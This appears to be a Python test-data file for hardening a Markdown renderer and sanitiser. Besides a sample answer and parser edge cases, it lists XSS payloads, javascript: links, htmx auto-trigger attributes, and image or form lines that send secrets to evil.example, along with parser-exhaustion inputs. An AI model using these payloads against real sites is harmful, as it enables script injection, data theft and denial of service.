"""What Markdown tests are made of: lines that random documents are built from, an answer as a model writes it, hostile
texts. Data only."""

ANSWER = r"""## How the cache works

The cache keeps **two** tables: a *hot* table and a *cold* one. When a key is read it moves to the hot table, so that
the average cost is \(O(1)\) and the worst case $O(\log n)$. See [the docs](https://docs.example.org/cache.html).

1. Look the key up in the hot table.
2. If it is missing, look in the cold table:
   - when found, promote it
   - when not found, call `load(key)`
     and store the result
3. Evict when `len(hot) > limit`.

```python
class Cache:
    '''A two-level cache.'''

    def get(self, key: str, load=lambda k: None):
        if (value := self.hot.get(key)) is not None:
            return value

        while len(self.hot) > self.limit:
            self.hot.pop(next(iter(self.hot)))  # oldest first
```

| Operation | Average | Notes |
| --- | :---: | ---: |
| `get` | O(1) | promotes the key |
| `put` | O(1) | may evict **many** |

> **Note:** the limit is *per process*. With four workers, you hold four caches.

The expected number of misses is

$$
E[M]
= \sum_{i=1}^{n} p_i (1 - p_i)^{k}
+ \frac{n}{k}
$$

缓存的命中率取决于访问分布。**注意：**热表与冷表的大小之和不应超过内存的一半；否则操作系统会开始换页，性能急剧下降。😀

- [x] measured with 10k keys
- [ ] test with *Zipf* keys
- [ ] write the report[^1]

[^1]: The report goes to the team by Friday.

---

**In short:** keep the hot table small, and measure before you tune. More at https://example.org/page?x=1&y=2 and
www.example.org; ask me@example.org.
"""

# Lines that mean something to the parser, in every place where they mean something else.
LINES = [
    "", "", "", "text", "more text **bold** and *it*", "plain words, and more of them", "# head", "## h2 ##", "===",
    "---", "- item", "- ", "-", "* star", "+ plus", "1. one", "2. two", "10) ten", "  - nested", "    - deep",
    "   cont", "  two", "    four", "\ttab", "      six", "> quote", "> > qq", ">", "> - ql", "> ```", "```", "```py",
    "~~~", "````", "  ```", "   ```js", "    ```", "- ```", "1. ```sh", "``` math", "def f(x): return x < 1",
    "| a | b |", "|---|---|", "|-", "| 1 | 2 |", "a|b", "-|-", "$$", "\\[", "\\]", "$$ x = 1 $$", "\\[ y", "+ z \\]",
    "   $$", "$x_1$ and \\(y\\)", "<div>", "</div>", "<!-- c", "-->", "<b>x</b>", "<script>", "</script>", "<?php",
    "?>", "***", "* * *", "_ _ _", "- - -", "http://a.b/c_d", "see www.a.b/c", "![i](http://x/y.png)",
    '[l](http://q.r "t")', "`code", "co`de", "**open", "close**", "~~s~~", "- [ ] todo", "- [x] done", "x\\", "y  ",
    "中文**“强调”**文字", "重点内容", "😀 emoji *😀*", "a&amp;b &lt; <", "> [!NOTE]", "> [!WARNING] own title",
    "> body", 'x = "data-sourcepos=\\"1:1-1:1\\""', '<p data-sourcepos="9:9-9:9">', "- item two", "- item three",
    "1. next", "3. three", "- **term:** what it is", "  and goes on", "\u3000", "\u00a0", "a\rb", "x\0y", "\ufeffz",
    "\ud83d", "e\u0301 \u2028 \x0b \x0c \x85",
]  # fmt: skip

# Definitions act at a distance: what they change is corrected at the end.
DEFINITIONS = [
    '[foo]: /url "t"', "[foo]: http://a.b", "[foo]", "[foo][]", "[^1]", "[^1]: note", "[^1]: note\n\n    para",
    "see [foo] and [^1].", "[foo]:", "[^2]: x", "[^2]", "- [^1]: in a list",
]  # fmt: skip

CHARACTERS = "ab \n\n\n-*+#>`~|$\\[]()!<&1.:=_\t😀中\r"

# Security matrix, S1 (script), S2 (htmx), S3 (loads that nobody asked for). Each is tried alone, in a link, a list, a
# table cell, a fence's language, mathematics.
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=https://evil.example><input name=password></form>",
    "<button form=f formaction=javascript:alert(1)>x</button>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<plaintext>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><x/>",
    # clobbering
    "<form id=document><input name=cookie></form>",
    "<a id=location name=location href=x>",
    "<div id=message-1 class=message data-role=assistant>I am a message</div>",
    "# heading {#id .class}",
    # htmx
    "<div data-hx-post=\"/api/delete-all\" data-hx-trigger=\"load\">",
    "<div hx-get=/logout hx-trigger=load></div>",
    "<a hx-boost=true data-hx-target=body href=/x>x</a>",
    "<button data-act=stop>Stop</button>",
    "<div style=\"position:fixed;inset:0\">",
    # addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.b/c)",
    "[x](//evil.example)",
    "[x](/logout)",
    "[x](?delete=1)",
    "[x](#message-1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[a](http://x/\"onmouseover=alert(1)//)",
    "[a](http://x 'title\" onmouseover=alert(1) x=\"')",
    "[a](<http://x/ onclick=alert(1)>)",
    "[a](http://good.example\\@evil.example)",
    "[https://good.example](https://evil.example)",
    "[x](http://[::1)",
    "[x](http://a%00b/)",
    "[x](http://%2Fevil.example)",
    "[x](mailto:a@b.c?body=x)",
    # images
    "![x](https://evil.example/?secret)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](//evil.example/y)",
    "![\" onerror=alert(1) x=\"](https://evil.example/z)",
    "[![x](https://evil.example/a)](https://evil.example/b)",
    "![x][r]\n\n[r]: https://evil.example/?q",
    # code and mathematics
    "```\"><img src=x onerror=alert(1)>\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "```x\" data-hx-get=\"/y\ncode\n```",
    "```<b>\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\class{x}{y}\\id{z}{w}\\style{color:red}{v}\\data{hx-get=/x}{u}$",
    "$\\unicode{x3c}script>$",
    "$$\n\\begin{array}{c|c}<b>&\"x\"\\\\\\hline\\end{array}\n$$",
    "$\\color{\"onclick=alert(1)}x$",
    "$\\label{x}\\ref{x}\\eqref{<b>}\\tag{<b>}$",
    "$\\newcommand{\\x}{<b onclick=1>}\\x$",
    "$$</span><script>alert(1)</script>$$",
    # footnotes, alerts, tables, tasks
    "[^<b>]: <script>alert(1)</script>\n\n[^<b>]",
    "[^\" onclick=x]\n\n[^\" onclick=x]: y",
    "> [!NOTE] <script>alert(1)</script>\n> x",
    "> [!NOTE\" onclick=x]\n> y",
    "| <script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | \" onclick=x |",
    "- [x\" onclick=y] z",
    "1\" start=x. y",
    # odd characters
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\u2028<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\ud83d<script>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
]  # fmt: skip

# Each costs a parser, a cleaner or a lexer more than its length should: name, and the text of about n characters.
BOMBS = {
    "quotes": lambda n: ">" * n,
    "spaced quotes": lambda n: "> " * (n // 2),
    "list markers": lambda n: "- " * (n // 2) + "a",
    "mixed containers": lambda n: "> - " * (n // 4) + "a",
    "indented lists": lambda n: "".join("  " * i + "- a\n" for i in range(int(n**0.5))),
    "inline maths open": lambda n: "\\( " * (n // 3),
    "display maths open": lambda n: "\\[ " * (n // 3),
    "maths over lines": lambda n: "\\( a\n" * (n // 5),
    "dollars": lambda n: "$a " * (n // 3),
    "double dollars": lambda n: "$$a " * (n // 4),
    "maths blocks": lambda n: "$$\nx\n$$\n\n" * (n // 9),
    "nested groups": lambda n: "$" + "{" * n + "$",
    "nested fractions": lambda n: "$" + "\\frac{" * (n // 6) + "$",
    "nested roots": lambda n: "$" + "\\sqrt" * min(n // 5, 1_500) + "$",
    "nested powers": lambda n: "$" + "x^" * min(n // 2, 3_900) + "$",
    "nested left": lambda n: "$" + "\\left(" * (n // 6) + "$",
    "macros": lambda n: "$\\newcommand{\\a}{" + "x" * 3_000 + "}" + "\\a" * 2_000 + "$",
    "recursive macro": lambda n: "$\\def\\a{\\a\\a}\\a$",
    "brackets": lambda n: "[" * n,
    "links open": lambda n: "[a](" * (n // 4),
    "links nested": lambda n: "[a](b" * (n // 5) + ")" * (n // 5),
    "images": lambda n: "![" * (n // 6) + "a" + "](http://x/y)" * (n // 6),
    "brackets closed": lambda n: "[" * (n // 2) + "]" * (n // 2),
    "emphasis": lambda n: "*a " * (n // 3),
    "nested emphasis": lambda n: "*a " * (n // 6) + "a*" * (n // 6),
    "mixed emphasis": lambda n: "*a_ " * (n // 4),
    "strike": lambda n: "~*" * (n // 2),
    "backticks": lambda n: "".join("`" * (i % 500) + " " for i in range(n // 250)),
    "code spans": lambda n: "`a``b'" * (n // 5),
    "less-than": lambda n: "<" * n,
    "comments": lambda n: "<!-- " * (n // 5),
    "html blocks": lambda n: "<div>\n\n" * (n // 7),
    "entities": lambda n: "&amp;" * (n // 5),
    "footnote": lambda n: "[^1] " * (n // 5) + "\n\n[^1]: x",
    "footnotes": lambda n: "".join(f"[^{i}] " for i in range(n // 16)) + "\n\n" + "[^1]: x\n" * (n // 16),
    "footnote chain": lambda n: "".join(f"[^{i}]: [^{i + 1}]\n" for i in range(n // 14)) + "\n\n[^0]",
    "definitions": lambda n: "".join(f"[{i}]: x\n" for i in range(n // 10)) + "[1]",
    "definition": lambda n: "[a]: http://" + "x" * (n // 2) + "\n\n" + "[a] " * (n // 8),
    "wide table": lambda n: "|a" * (n // 4) + "\n" + "|-" * (n // 4) + "\n",
    "empty cells": lambda n: "|a" * 100 + "|\n" + "|-" * 100 + "|\n" + "|\n" * (n // 2),
    "long table": lambda n: "a|b\n-|-\n" + "c|d\n" * (n // 4),
    "addresses": lambda n: "http://a.b " * (n // 11),
    "e-mail": lambda n: "a@b.c " * (n // 6),
    "e-mail run": lambda n: "a@b.c" * (n // 5),
    "www": lambda n: "www." * (n // 4),
    "colons": lambda n: ":" * n,
    "backslashes": lambda n: "\\" * n,
    "list": lambda n: "- a\n" * (n // 4),
    "loose list": lambda n: "- a\n\n" * (n // 5),
    "tasks": lambda n: "- [ ] a\n" * (n // 8),
    "rules": lambda n: "---\n\n" * (n // 5),
    "headings": lambda n: "#\n" * (n // 2),
    "alerts": lambda n: "> [!NOTE]\n> a\n\n" * (n // 15),
    "fences": lambda n: "```\n" * (n // 4),
    "open fence": lambda n: "```python\n" + "x = 1\n" * (n // 6),
    "blank lines": lambda n: "\n" * n,
    "one word": lambda n: "a" * n,
    "one space": lambda n: "a" + " " * n + "b",
    "hard breaks": lambda n: "a\\\n" * (n // 3),
    "nul": lambda n: "\0" * n,
    "carriage returns": lambda n: "a\r" * (n // 2),
    "cjk": lambda n: "**中“" * (n // 4),
    "surrogates": lambda n: "\ud83d" * n,
}
